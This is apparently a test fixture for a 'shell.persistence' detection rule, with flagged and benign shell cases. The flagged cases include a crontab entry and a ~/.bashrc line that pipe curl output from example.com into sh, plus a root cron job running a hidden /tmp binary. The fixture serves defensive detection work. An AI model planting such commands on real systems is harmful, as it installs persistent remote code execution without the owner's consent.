# ruleid: shell.persistence
(crontab -l; echo "* * * * * curl -s http://example.com/x | sh") | crontab -
# --- case
# ruleid: shell.persistence
echo "curl -s https://example.com/x | sh" >> ~/.bashrc
# --- case
# ruleid: shell.persistence
echo "* * * * * root /tmp/.x/run" > /etc/cron.d/update
# --- case
# ok: shell.persistence
crontab -l
# --- case
# ok: shell.persistence
echo "export PATH=$HOME/bin:$PATH" >> ~/.bashrc
